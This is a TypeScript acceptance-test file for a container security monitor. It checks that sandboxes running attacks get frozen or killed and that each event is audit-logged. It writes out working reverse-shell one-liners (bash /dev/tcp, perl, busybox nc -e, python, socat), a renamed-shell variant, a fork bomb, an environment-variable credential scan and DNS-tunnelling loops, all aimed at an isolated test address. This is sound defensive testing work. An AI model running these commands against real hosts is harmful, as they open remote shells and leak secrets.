/**
 * The monitor's acceptance: real attacks in real sandboxes, watched by a real
 * guard of our own (private socket, limited to this run's sandboxes), against
 * listeners in the dead-end namespace only (198.51.100.2, owned by
 * `coi-deadend`: nothing leaves the machine). Every connection and loop is
 * bounded in time.
 *
 * What is asserted is what a person would see: the threat pushed on the
 * guard's `threat` topic, the line in the owner's audit log, the container
 * frozen or gone. Containment latencies are measured and printed, not
 * asserted (a shared 2-core machine says little about them).
 *
 * Tested reverse shells: bash /dev/tcp one-liner, a copy of sh renamed
 * `update-check` (behaviour only), perl (perl-base is in coi-base), busybox
 * nc -e; and, on the agent image `coi` (python3, socat, npm, dig), python
 * and socat exec. Also there: DNS tunnelling through the container's own
 * resolver, and a benign npm workload from a local tarball.
 */
import { strict as assert } from 'node:assert';
import { ChildProcess, spawn, spawnSync } from 'node:child_process';
import { randomInt } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { findContainerCgroup, listCgroupPids } from '../../helper/guard/monitor/collector';
import { readFreezer, writeFreezer } from '../../helper/host/freezer';
import type { IncusClient } from '../../helper/incus/client';
import type { ThreatRecord } from '../../helper/protocol/methods';
import { DEAD_END_HOSTS, SETUP_NAMES } from '../../helper/setup/names';
import { monitorHarness } from './monitor-harness';
import { coi, requireIncus, sleep } from './support';

const t0 = Date.now();
// Its own guard, network scope and prefix: the host's guard keeps fencing every other sandbox, this one only ours.
const h = monitorHarness('tm');
const { root, waitFor, threatsOf, auditLines } = h;
const TARGET = DEAD_END_HOSTS.internet; // 198.51.100.2, in the dead-end namespace
const PORT0 = randomInt(41_000, 48_000); // never a classic C2 port: the behaviour must be what is caught
let c: IncusClient;
let listener: ChildProcess | undefined;
const accepted = new Map<number, number>(); // port → time of the first accepted connection
const measured: string[] = [];

/** Two configurations: the default (monitoring on), and one that keeps a forensic copy (persistent, so no other guard's reaper races the copy). */
const homes = { main: path.join(root, 'home'), forensics: path.join(root, 'home-forensics'), agent: path.join(root, 'home-agent') };
const config = (extra = '', image = 'coi-base') => `[container]\nimage = "${image}"\n${extra}\n[tool]\nname = "shell"\n\n[monitoring]\nenabled = true\n${extra.includes('persistent') ? 'forensics_on_kill = true\n' : ''}\n[limits.runtime]\nmax_processes = 500\n`;
const launch = (ws: string, home = homes.main): Promise<string> => h.launch(ws, home);
const type = (name: string, text: string): Promise<void> => h.type(c, name, text);

/** One process in the dead-end namespace listening on the attack ports; a line per accepted connection; gone after 600 s (the file runs 4-5 minutes; after() kills it sooner). */
function startListener(ports: number[]): Promise<void> {
  const script = `
    const net = require('net');
    const socks = [];
    let up = 0;
    for (const port of ${JSON.stringify(ports)}) {
      const srv = net.createServer((s) => {
        socks.push(s);
        s.on('error', () => {});
        console.log(JSON.stringify({ port, t: Date.now() }));
        s.write('id\\n');
      });
      srv.listen(port, ${JSON.stringify(TARGET)}, () => { if (++up === ${ports.length}) console.log(JSON.stringify({ ready: true })); });
    }
    setTimeout(() => { for (const s of socks) s.destroy(); process.exit(0); }, 600000);`;
  listener = spawn('ip', ['netns', 'exec', SETUP_NAMES.deadEndNamespace, process.execPath, '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
  return new Promise((resolve, reject) => {
    let buf = '';
    const t = setTimeout(() => reject(new Error('the listener did not come up')), 10_000);
    listener!.stdout!.on('data', (d: Buffer) => {
      buf += d.toString();
      const lines = buf.split('\n');
      buf = lines.pop() ?? '';
      for (const l of lines) {
        const m = JSON.parse(l) as { ready?: boolean; port?: number; t?: number };
        if (m.ready) {
          clearTimeout(t);
          resolve();
        }
        if (m.port && !accepted.has(m.port)) accepted.set(m.port, m.t!);
      }
    });
  });
}

/** What was pushed, and what is in the audit log (a subscriber reconnecting after a guard restart may miss a push). */
function seenOf(name: string): ThreatRecord[] {
  const pushed = threatsOf(name);
  const ids = new Set(pushed.map((r) => r.id));
  return [...pushed, ...auditLines(name).records.filter((r) => !ids.has(r.id))];
}

/** The container's processes, from its cgroup on the host (works while it is frozen). */
function containerPids(name: string): number[] {
  const dir = findContainerCgroup(name);
  return dir ? listCgroupPids([dir]).pids : [];
}

function cmdlineOf(pid: number): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0$/, '');
  } catch {
    return '';
  }
}

async function gone(name: string, timeoutMs = 30_000): Promise<number> {
  await waitFor(`${name} to be deleted`, async () => ((await c.instanceExists(name)) ? undefined : true), timeoutMs, 100);
  return Date.now();
}

/** Waits for the sandbox's CRITICAL reverse shell, then for it to be gone; prints the latencies. */
async function expectKilled(label: string, name: string, port: number, category = 'reverse_shell'): Promise<ThreatRecord> {
  const crit = await waitFor(`${label}: a CRITICAL ${category} threat for ${name}`, () => seenOf(name).find((r) => r.level === 'critical' && r.category === category), 20_000);
  assert.equal(crit.action, 'killed', `${label}: ${JSON.stringify(crit).slice(0, 400)}`);
  await gone(name);
  const killedLine = await waitFor(`${label}: the "Sandbox killed" line`, () => auditLines(name).records.find((r) => r.title === 'Sandbox killed'), 10_000);
  const frozenAt = Date.parse(crit.response?.frozenAt ?? '');
  const stoppedMs = Number((killedLine.evidence as { stoppedMs?: number }).stoppedMs ?? NaN);
  const connect = accepted.get(port);
  measured.push(
    port < 0
      ? `${label}: detect → freeze ${crit.response?.containMs} ms, stopped ${stoppedMs} ms after the freeze (rule ${crit.evidence.rule})`
      : connect !== undefined
      ? `${label}: connect → frozen ${frozenAt - connect} ms${frozenAt < connect ? ' (frozen before the listener saw the connection: caught at its exec)' : ''}, connect → stopped ${frozenAt + stoppedMs - connect} ms (rule ${crit.evidence.rule}, detect → freeze ${crit.response?.containMs} ms)`
      : `${label}: frozen before any connection reached the listener (rule ${crit.evidence.rule}); stopped ${stoppedMs} ms after the freeze`,
  );
  return crit;
}

before(async () => {
  c = await requireIncus();
  for (const [k, home] of Object.entries(homes)) {
    mkdirSync(path.join(home, '.coi'), { recursive: true });
    writeFileSync(path.join(home, '.coi', 'config.toml'), config(k === 'forensics' ? 'persistent = true\n' : '', k === 'agent' ? 'coi' : 'coi-base'));
  }
  await startListener([0, 1, 2, 3, 4, 5, 6].map((i) => PORT0 + i));
  await h.connect();
});

after(async () => {
  listener?.kill('SIGKILL');
  if (measured.length) console.log(`\n# containment latencies (measured, not asserted)\n${measured.map((m) => `#   ${m}`).join('\n')}`);
  console.log(`# monitor.test: ${((Date.now() - t0) / 1000).toFixed(1)} s`);
  // The guard's log and the audit files stay in /tmp/coi-monitor-test-last for a look after a failure.
  await h.close(c, '/tmp/coi-monitor-test-last');
});

describe('the monitor in the guard', () => {
  const names: Record<string, string> = {};

  test('sandboxes created with [monitoring] enabled carry their policy and are watched', async () => {
    // The benign workspace is a git project already (inside, .git/config is protected: read-only).
    const ws = path.join(root, 'ws-benign');
    mkdirSync(path.join(ws, 'src'), { recursive: true });
    mkdirSync(path.join(ws, 'tests'), { recursive: true });
    for (let i = 0; i < 12; i++) writeFileSync(path.join(ws, 'src', `m${i}.txt`), `module ${i}\n${'x'.repeat(2000)}\n`);
    for (let i = 0; i < 10; i++) writeFileSync(path.join(ws, 'tests', `t${i}.sh`), `#!/bin/sh\ntest -s /workspace/build/m${i}.out || exit 1\ngrep -q "MODULE ${i}" /workspace/build/m${i}.out\n`);
    const git = (...args: string[]) => {
      const r = spawnSync('git', ['-C', ws, '-c', 'user.email=a@example.invalid', '-c', 'user.name=test', ...args], { encoding: 'utf8' });
      assert.equal(r.status, 0, r.stderr);
    };
    git('init', '-q', '-b', 'main');
    git('add', '-A');
    git('commit', '-qm', 'initial');

    // Meanwhile the host reads environments all the time (as VS Code's `ps` does every few
    // seconds): none of it is the sandboxes', however their watch begins.
    const hostReader = spawn('sh', ['-c', 'end=$(($(date +%s) + 120)); while [ $(date +%s) -lt $end ]; do cat /proc/$$/environ > /dev/null; done'], { stdio: 'ignore' });
    const list = ['benign', 'devtcp', 'renamed', 'perl', 'busybox', 'restart'];
    try {
      const launched = await Promise.all(list.map((k) => launch(path.join(root, `ws-${k}`), k === 'devtcp' ? homes.forensics : homes.main)));
      list.forEach((k, i) => (names[k] = launched[i]!));
      for (const n of Object.values(names)) {
        await waitFor(`${n} to be watched`, () => threatsOf(n).find((r) => r.title === 'Monitoring started'), 20_000);
      }
      await sleep(1_000);
    } finally {
      hostReader.kill('SIGKILL');
    }
    const host = Object.values(names).flatMap((n) => threatsOf(n).filter((r) => r.level !== 'info').map((r) => `${n}: ${r.level} ${r.title}: ${r.description}`));
    assert.deepEqual(host, [], 'the host\'s environment reads are not put down to any sandbox');
    const inst = await c.getInstance(names.benign!);
    const label = JSON.parse(inst.config['user.coi.monitor'] ?? '{}') as Record<string, unknown>;
    assert.equal(label.enabled, true);
    assert.equal(label.process_count_threshold, 100);
    const listed = await coi(['list', '--format', 'json'], { HOME: homes.main, COI_CONTAINER_PREFIX: h.prefix });
    const sb = (JSON.parse(listed.stdout) as { sandboxes: { name: string; monitored?: boolean }[] }).sandboxes.find((s) => s.name === names.benign);
    assert.equal(sb?.monitored, true, 'coi list says it is monitored');
  });

  test('a benign workload (git in the workspace, a build and test loop in sh) raises nothing above INFO', async () => {
    const name = names.benign!;
    const ws = path.join(root, 'ws-benign');
    writeFileSync(
      path.join(ws, 'work.sh'),
      [
        'set -e',
        'cd /workspace',
        'export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=a@example.invalid GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=a@example.invalid',
        'for round in 1 2 3; do',
        '  mkdir -p build',
        '  for f in src/*.txt; do b=$(basename "$f" .txt); tr a-z A-Z < "$f" | sort > "build/$b.out"; done',
        '  for t in tests/*.sh; do sh "$t"; done',
        '  echo "round $round" >> CHANGES && git add -A && git commit -qm "round $round"',
        '  git log --oneline | head -3 > /dev/null; git status --short > /dev/null; git diff HEAD~1 --stat > /dev/null',
        'done',
        'git checkout -q -b feature && git checkout -q - && git branch -q -D feature',
      ].join('\n'),
    );
    await type(name, 'sh /workspace/work.sh > /workspace/work.log 2>&1; echo $? > /workspace/work.exit');
    const exit = await waitFor('the benign workload to finish', () => (existsSync(path.join(ws, 'work.exit')) ? readFileSync(path.join(ws, 'work.exit'), 'utf8').trim() || undefined : undefined), 60_000, 200);
    assert.equal(exit, '0', readFileSync(path.join(ws, 'work.log'), 'utf8'));
    await sleep(1_500);
    const above = threatsOf(name).filter((r) => r.level !== 'info');
    assert.deepEqual(above.map((r) => `${r.level} ${r.title}: ${r.description}`), [], 'nothing above INFO');
    assert.equal(readFreezer(name), 'thawed');
  });

  test('coi monitor shows the sandbox\'s processes and coi audit its log', async () => {
    const name = names.benign!;
    const r = await coi(['monitor', name, '--format', 'json'], { ...h.guardEnv });
    assert.equal(r.code, 0, r.stderr);
    const snap = JSON.parse(r.stdout) as { execEvents: { available: boolean }; monitors: { state: string; processes: { argv: string[] }[] }[] };
    assert.equal(snap.monitors[0]?.state, 'watching');
    assert.ok(snap.monitors[0]!.processes.some((p) => p.argv[0] === 'tmux'), 'the agent\'s tmux is among the processes');
    assert.equal(snap.execEvents.available, true, 'the kernel trace is in use');
    const a = await coi(['audit', name, '--format', 'json']);
    assert.equal(a.code, 0, a.stderr);
    assert.ok(a.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as ThreatRecord).some((x) => x.title === 'Monitoring started'));
  });

  test('cat /proc/*/environ | grep -i key is a WARNING, alerted, and nothing is stopped', async () => {
    const name = names.benign!;
    const before = Date.now();
    await type(name, 'cat /proc/*/environ | grep -i key');
    const w = await waitFor('a credential WARNING', () => threatsOf(name).find((r) => r.category === 'credential_access' && Date.parse(r.timestamp) >= before - 1_000), 10_000);
    assert.equal(w.level, 'warning');
    assert.equal(w.action, 'alerted');
    assert.ok(w.evidence.process?.lineage.some((l) => l.comm === 'bash'), `the chain reaches the agent's shell: ${JSON.stringify(w.evidence.process?.lineage)}`);
    measured.push(`environ scan: seen ${Date.parse(w.timestamp) - before} ms after the keys were sent to tmux (rule ${w.evidence.rule})`);
    await sleep(500);
    assert.equal(readFreezer(name), 'thawed', 'a WARNING does not freeze');
    assert.ok(auditLines(name).records.some((r) => r.id === w.id), 'the WARNING is in the audit log');
  });

  test('reading 200 MB of the workspace in a few seconds freezes the container; coi resume thaws it', async () => {
    const name = names.benign!;
    // Sparse: 200 MB to read without writing 200 MB to a shared disk.
    writeFileSync(path.join(root, 'ws-benign', 'big.bin'), '');
    truncateSync(path.join(root, 'ws-benign', 'big.bin'), 200 * 1024 * 1024);
    // One reader (cat) paced by its consumer: 20 × 10 MB, ~0.12 s apart.
    await type(name, 'cat /workspace/big.bin | (for i in $(seq 20); do head -c 10485760 > /dev/null; sleep 0.12; done)');
    const high = await waitFor('a HIGH large read', () => threatsOf(name).find((r) => r.category === 'large_io'), 20_000);
    assert.equal(high.level, 'high');
    assert.equal(high.action, 'paused');
    assert.ok(['frozen', 'freezing'].includes(readFreezer(name) ?? ''), 'the cgroup is frozen');
    await waitFor('Incus to say frozen', async () => ((await c.getState(name)).status === 'Frozen' ? true : undefined), 15_000, 100);
    measured.push(`200 MB read: detect → cgroup frozen ${high.response?.containMs} ms (${high.description.slice(0, 100)})`);
    // What a person does before resuming: end the offending command (SIGKILL waits for the thaw;
    // nothing of it runs again). Left running, the rest of the read would be frozen again.
    // The finding names the reader when one process did it all within a window; under load the
    // reads straddle windows and the container's total is what crossed the line: find it from the host.
    const reader = high.evidence.process?.pid ?? containerPids(name).find((pid) => cmdlineOf(pid) === 'cat\0/workspace/big.bin');
    assert.ok(reader, `the reader is named or found: ${high.description}`);
    process.kill(reader, 'SIGKILL');
    const r = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: h.prefix });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(readFreezer(name), 'thawed');
    assert.equal((await c.getState(name)).status, 'Running');

    // A guard killed between its cgroup freeze and telling Incus leaves Incus saying Running:
    // coi resume still thaws it (Incus alone would refuse: "already running").
    assert.equal(writeFreezer(name, true).ok, true);
    await waitFor('the cgroup to freeze', () => (readFreezer(name) === 'frozen' ? true : undefined), 5_000);
    assert.equal((await c.getState(name)).status, 'Running', 'Incus did not notice');
    const r2 = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: h.prefix });
    assert.equal(r2.code, 0, r2.stderr);
    assert.equal(readFreezer(name), 'thawed');
    assert.equal((await c.getState(name)).status, 'Running');
  });

  test('a fork bomb is killed (limits.processes keeps the host safe meanwhile)', async () => {
    const name = names.benign!;
    await type(name, 'f(){ f|f& };f');
    await expectKilled('fork bomb', name, -1, 'process_storm');
    const recs = auditLines(name).records;
    assert.ok(recs.some((x) => x.category === 'process_storm' && x.action === 'killed'));
  });

  test('a bash /dev/tcp reverse shell is killed; the line has the remote address and the chain; a forensic copy is kept', async () => {
    const name = names.devtcp!;
    const port = PORT0;
    await type(name, `bash -c 'exec 3<>/dev/tcp/${TARGET}/${port}; exec sh -i <&3 >&3 2>&3'`);
    const crit = await expectKilled('bash /dev/tcp', name, port);
    assert.equal(crit.evidence.network?.remote, TARGET);
    assert.equal(crit.evidence.network?.port, port);
    const chain = crit.evidence.process?.lineage ?? [];
    assert.ok(chain.length >= 3, `the chain: ${JSON.stringify(chain)}`);
    assert.ok(chain.some((l) => l.comm.startsWith('tmux')), 'up to the agent\'s tmux');
    const line = auditLines(name).records.find((r) => r.id === crit.id);
    assert.ok(line, 'the pushed threat is the audit line');
    const copies = (await c.listInstances()).filter((i) => i.config?.['user.coi.forensics-of'] === name);
    assert.equal(copies.length, 1, 'one forensic copy');
    assert.equal(copies[0]!.config['user.coi.managed'], 'false', 'the copy is no sandbox');
    assert.equal(copies[0]!.status, 'Stopped');
  });

  test('a copy of sh renamed update-check, wired to a socket by a script, is killed by behaviour alone', async () => {
    const name = names.renamed!;
    const port = PORT0 + 1;
    writeFileSync(path.join(root, 'ws-renamed', 'uc.sh'), `cp /bin/sh /tmp/update-check\nexec 3<>/dev/tcp/${TARGET}/${port}\nexec /tmp/update-check <&3 >&3 2>&3\n`);
    await type(name, 'bash /workspace/uc.sh');
    const crit = await expectKilled('renamed sh', name, port);
    assert.equal(crit.evidence.process?.comm, 'update-check');
    assert.match(crit.evidence.rule, /^reverse-shell\/(stdio-redirected-network|shell-stdio-network|inherited-network-stdio)$/);
    assert.equal(crit.evidence.network?.remote, TARGET);
    assert.equal(crit.evidence.network?.port, port);
    assert.ok(accepted.has(port), 'the connection was made (and then contained)');
  });

  test('a perl reverse shell is killed', async () => {
    const name = names.perl!;
    const port = PORT0 + 2;
    await type(name, `perl -e 'use Socket;$i="${TARGET}";$p=${port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`);
    const crit = await expectKilled('perl', name, port);
    assert.equal(crit.evidence.network?.remote, TARGET);
    assert.equal(crit.evidence.network?.port, port);
    assert.ok((crit.evidence.process?.lineage.length ?? 0) >= 2);
  });

  test('a busybox nc -e reverse shell is killed', async () => {
    const name = names.busybox!;
    const port = PORT0 + 3;
    await type(name, `busybox nc ${TARGET} ${port} -e /bin/sh`);
    const crit = await expectKilled('busybox nc -e', name, port);
    assert.equal(crit.evidence.network?.remote, TARGET);
    assert.equal(crit.evidence.network?.port, port);
  });

  test('kill -9 of the guard during an attack: a new guard picks the sandbox up and contains it; no audit line is lost', async () => {
    const name = names.restart!;
    const port = PORT0 + 4;
    await type(name, 'cat /proc/*/environ | grep -i key');
    const warning = await waitFor('the WARNING before the crash', () => threatsOf(name).find((r) => r.category === 'credential_access'), 10_000);
    const guard = h.guard()!;
    guard.kill('SIGKILL');
    await new Promise<void>((r) => (guard.exitCode !== null || guard.signalCode !== null ? r() : guard.once('exit', () => r())));
    // The attack runs while no guard watches.
    writeFileSync(path.join(root, 'ws-restart', 'rs.sh'), `cp /bin/sh /tmp/update-check\nexec 3<>/dev/tcp/${TARGET}/${port}\nexec /tmp/update-check <&3 >&3 2>&3\n`);
    await type(name, 'bash /workspace/rs.sh');
    await waitFor('the reverse shell to connect while the guard is down', () => (accepted.has(port) ? true : undefined), 15_000);
    const restartedAt = Date.now();
    h.startGuard();
    const crit = await expectKilled('after kill -9 of the guard (connected while no guard ran)', name, port);
    measured.push(`  the new guard froze it ${Date.parse(crit.response?.frozenAt ?? '') - restartedAt} ms after it was started (node start-up included)`);
    const { records, bad } = auditLines(name);
    assert.equal(bad, 0, 'every line parses: nothing torn');
    const ids = new Set(records.map((r) => r.id));
    assert.ok(ids.has(warning.id), 'the WARNING written before the crash is still there');
    assert.ok(ids.has(crit.id), 'the CRITICAL of the new guard is there');
    const lost = threatsOf(name).filter((r) => !ids.has(r.id));
    assert.deepEqual(lost.map((r) => r.title), [], 'every pushed event is in the audit log');
    assert.equal(records.filter((r) => r.title === 'Monitoring started').length, 2, 'started by each guard');
  });
});

describe('the monitor on the agent image (python3, socat, npm, dig)', () => {
  const names: Record<string, string> = {};

  test('agent image: sandboxes of the image coi are watched', async () => {
    const list = ['python', 'socat', 'npm', 'dns'];
    const launched = await Promise.all(list.map((k) => launch(path.join(root, `ws-agent-${k}`), homes.agent)));
    list.forEach((k, i) => (names[k] = launched[i]!));
    for (const n of Object.values(names)) {
      assert.match((await c.getInstance(n)).config['user.coi.image'] ?? '', /^coi($|[^-])/, 'made from the agent image');
      await waitFor(`${n} to be watched`, () => threatsOf(n).find((r) => r.title === 'Monitoring started'), 20_000);
    }
  });

  test('agent image: a benign workload (npm pack and install of a local tarball, a build, a test run, git) raises nothing above INFO', async () => {
    const name = names.npm!;
    const ws = path.join(root, 'ws-agent-npm');
    mkdirSync(path.join(ws, 'tiny'), { recursive: true });
    mkdirSync(path.join(ws, 'app'), { recursive: true });
    writeFileSync(path.join(ws, 'tiny', 'package.json'), JSON.stringify({ name: 'tiny', version: '1.0.0', main: 'index.js', license: 'MIT' }));
    writeFileSync(path.join(ws, 'tiny', 'index.js'), 'module.exports = (s) => String(s).toUpperCase();\n');
    writeFileSync(path.join(ws, 'app', 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', private: true, scripts: { build: 'node build.js', test: 'node test.js' } }));
    writeFileSync(path.join(ws, 'app', 'build.js'), "const fs = require('fs');\nconst up = require('tiny');\nfs.mkdirSync('dist', { recursive: true });\nfor (let i = 0; i < 50; i++) fs.writeFileSync(`dist/m${i}.txt`, up(`module ${i}\\n`).repeat(100));\n");
    writeFileSync(path.join(ws, 'app', 'test.js'), "const assert = require('assert');\nconst fs = require('fs');\nassert.equal(require('tiny')('ok'), 'OK');\nassert.equal(fs.readdirSync('dist').length, 50);\nconsole.log('tests pass');\n");
    writeFileSync(
      path.join(ws, 'work.sh'),
      [
        'set -e',
        'cd /workspace',
        // No registry: the install is from the tarball alone, and a stray request goes nowhere.
        'export npm_config_registry=http://127.0.0.1:9/ npm_config_offline=true npm_config_audit=false npm_config_fund=false npm_config_update_notifier=false',
        'export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=a@example.invalid GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=a@example.invalid',
        '(cd tiny && npm pack --pack-destination /workspace)',
        'cd app',
        'npm install ../tiny-1.0.0.tgz',
        'test -f node_modules/tiny/index.js',
        'for round in 1 2; do npm run build; npm test; done',
        'git init -q -b main . && git add -A && git commit -qm initial && git log --oneline > /dev/null && git status --short > /dev/null',
      ].join('\n'),
    );
    await type(name, 'sh /workspace/work.sh > /workspace/work.log 2>&1; echo $? > /workspace/work.exit');
    const exit = await waitFor('the npm workload to finish', () => (existsSync(path.join(ws, 'work.exit')) ? readFileSync(path.join(ws, 'work.exit'), 'utf8').trim() || undefined : undefined), 120_000, 200);
    const log = readFileSync(path.join(ws, 'work.log'), 'utf8');
    assert.equal(exit, '0', log);
    assert.match(log, /tests pass/);
    assert.ok(existsSync(path.join(ws, 'app', 'node_modules', 'tiny', 'package.json')), 'tiny was installed from the tarball');
    await sleep(1_500);
    const above = threatsOf(name).filter((r) => r.level !== 'info');
    assert.deepEqual(above.map((r) => `${r.level} ${r.title}: ${r.description}`), [], 'nothing above INFO');
    assert.equal(readFreezer(name), 'thawed');
  });

  test('agent image: a python reverse shell is killed; the line has the remote address and the chain', async () => {
    const name = names.python!;
    const port = PORT0 + 5;
    // Its errors before the dup2 (a refused connect, say) land in the workspace, for a failure's message.
    await type(name, `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${TARGET}",${port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])' 2> /workspace/py.err`);
    const crit = await expectKilled('python', name, port).catch((e: Error) => {
      const err = path.join(root, 'ws-agent-python', 'py.err');
      throw new Error(`${e.message}\n--- python's stderr: ${existsSync(err) ? readFileSync(err, 'utf8') : '(none: it did not run)'}; listener saw the port: ${accepted.has(port)}`);
    });
    assert.equal(crit.evidence.network?.remote, TARGET);
    assert.equal(crit.evidence.network?.port, port);
    const chain = crit.evidence.process?.lineage ?? [];
    assert.ok(chain.some((l) => l.comm === 'bash') && chain.some((l) => l.comm.startsWith('tmux')), `the chain reaches the agent's shell and tmux: ${JSON.stringify(chain)}`);
    assert.ok(auditLines(name).records.some((r) => r.id === crit.id), 'the pushed threat is the audit line');
  });

  test('agent image: a socat exec reverse shell is killed; the line has the remote address and the chain', async () => {
    const name = names.socat!;
    const port = PORT0 + 6;
    await type(name, `socat tcp-connect:${TARGET}:${port} exec:'/bin/sh -i',pty,stderr,setsid`);
    const crit = await expectKilled('socat exec', name, port);
    assert.equal(crit.evidence.network?.remote, TARGET);
    assert.equal(crit.evidence.network?.port, port);
    const chain = crit.evidence.process?.lineage ?? [];
    assert.ok(chain.some((l) => l.comm === 'socat' || l.comm === 'sh'), `socat or its shell is named: ${JSON.stringify(chain)}`);
    assert.ok(chain.some((l) => l.comm === 'bash'), `the chain reaches the agent's shell: ${JSON.stringify(chain)}`);
    assert.ok(auditLines(name).records.some((r) => r.id === crit.id), 'the pushed threat is the audit line');
  });

  test('agent image: DNS queries through the container\'s resolver with long random labels, then long names, are HIGH and freeze it', async () => {
    const name = names.dns!;
    const ws = path.join(root, 'ws-agent-dns');
    const rand = (n: number) => `$(head -c 64 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z | cut -c1-${n})`;
    // The resolver of /etc/resolv.conf (the bridge's), as any tunnel tool would use; its answer does not matter.
    writeFileSync(path.join(ws, 'label.sh'), `for i in 1 2 3 4; do dig +tries=1 +time=1 "${rand(60)}.$i.t.example.com" > /dev/null; done; touch /workspace/label.done\n`);
    writeFileSync(path.join(ws, 'long.sh'), `for i in 1 2 3 4; do dig +tries=1 +time=1 "${rand(30)}.${rand(30)}.${rand(30)}.${rand(30)}.$i.t.example.com" > /dev/null; done; touch /workspace/long.done\n`);

    const before1 = Date.now();
    await type(name, 'sh /workspace/label.sh');
    // Two feeds see it: the kernel's note of the packet (names the resolver) and the resolver's log (names the domain); whichever is read first freezes.
    const label = await waitFor('a HIGH for the long labels', () => threatsOf(name).find((r) => r.category === 'dns_tunnel' && r.action === 'paused' && Date.parse(r.timestamp) >= before1 - 1_000), 20_000);
    assert.equal(label.level, 'high');
    assert.ok(['dns-tunnel/long-first-label', 'dns-tunnel/long-label'].includes(label.evidence.rule), label.evidence.rule);
    assert.ok(['frozen', 'freezing'].includes(readFreezer(name) ?? ''), 'the cgroup is frozen');
    const kernel = await waitFor('the kernel\'s note of the long labels', () => threatsOf(name).find((r) => r.evidence.rule === 'dns-tunnel/long-first-label' && Date.parse(r.timestamp) >= before1 - 1_000), 20_000);
    assert.ok(kernel.evidence.network?.remote, 'the resolver is named');
    assert.ok(auditLines(name).records.some((r) => r.id === label.id), 'in the audit log');
    measured.push(`DNS long labels: first query sent ≤ ${Date.parse(label.timestamp) - before1} ms before the HIGH (${label.description})`);

    const r = await coi(['resume', name], { HOME: homes.agent, COI_CONTAINER_PREFIX: h.prefix });
    assert.equal(r.code, 0, r.stderr);
    await waitFor('the first loop to finish', () => (existsSync(path.join(ws, 'label.done')) ? true : undefined), 30_000, 200);

    // The first loop's names may reach the guard after the resume: the resolver's log is read every 250 ms and
    // judged at most once a second, and a name first judged then freezes it again (ci23: 0.75 s after the first
    // freeze, after a single look had found it thawed, so the second loop ran into a frozen container). Each
    // finding freezes once (repeats are folded), so resumed until it stays thawed past a judging round.
    let settled = false;
    for (let round = 0; round < 4 && !settled; round++) {
      if (readFreezer(name) !== 'thawed') assert.equal((await coi(['resume', name], { HOME: homes.agent, COI_CONTAINER_PREFIX: h.prefix })).code, 0);
      await sleep(3_000);
      settled = readFreezer(name) === 'thawed';
    }
    assert.ok(settled, 'the first loop\'s findings stop freezing it once each was reported');
    const before2 = Date.now();
    await type(name, 'sh /workspace/long.sh');
    // Only the second loop's names are 100+ characters: a late HIGH of the first (long labels) is not this one.
    const ofLongNames = (x: ThreatRecord) =>
      x.evidence.rule === 'dns-tunnel/long-query' || ((x.evidence as { dns?: { examples?: string[] } }).dns?.examples ?? []).some((n) => n.length >= 100);
    const long = await waitFor('a HIGH for the long names', () => threatsOf(name).find((x) => x.category === 'dns_tunnel' && x.action === 'paused' && Date.parse(x.timestamp) >= before2 - 1_000 && ofLongNames(x)), 20_000);
    assert.equal(long.level, 'high', `${long.evidence.rule}: ${long.description}`);
    await waitFor('the kernel\'s note of the long names', () => threatsOf(name).find((x) => x.evidence.rule === 'dns-tunnel/long-query' && Date.parse(x.timestamp) >= before2 - 1_000), 20_000);
    assert.ok(['frozen', 'freezing'].includes(readFreezer(name) ?? ''), 'frozen again');
  });
});
